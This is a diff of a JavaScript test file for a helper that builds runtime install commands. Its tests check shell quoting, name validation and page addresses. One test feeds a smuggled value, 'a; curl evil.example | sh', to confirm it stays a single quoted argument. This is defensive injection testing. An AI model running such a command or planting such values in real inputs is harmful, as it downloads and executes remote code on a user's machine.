@@ -12,8 +12,8 @@ describe('the commands that add a runtime', () => {
   it('are never more than one command, whatever the address of the page calls the runtime', () => {
     expect(installCommand('https://x.example', 'a; curl evil.example | sh')).toContain(`--set global.runtime.name='a; curl evil.example | sh' \\\n`);
     expect(['argocd', "it's", '$(x)', ''].map(shellWord)).toEqual(['argocd', `'it'\\''s'`, "'$(x)'", "''"]);
-    expect(['prod', 'prod-eu-1', 'p', 'a'.repeat(63)].every(isRuntimeName)).toBe(true);
-    expect(['', 'Prod', '-a', 'a-', 'a b', 'a;b', 'a\nb', 'a'.repeat(64)].some(isRuntimeName)).toBe(false);
+    expect(['prod', 'prod-eu-1', 'p', 'a'.repeat(38)].every(isRuntimeName)).toBe(true);
+    expect(['', 'Prod', '-a', 'a-', 'a b', 'a;b', 'a\nb', '9prod', 'a'.repeat(39)].some(isRuntimeName)).toBe(false);
   });
   it('have the address of the page', () => {
     expect(addressFor('https://gitops.example.com')).toBe('https://gitops.example.com');
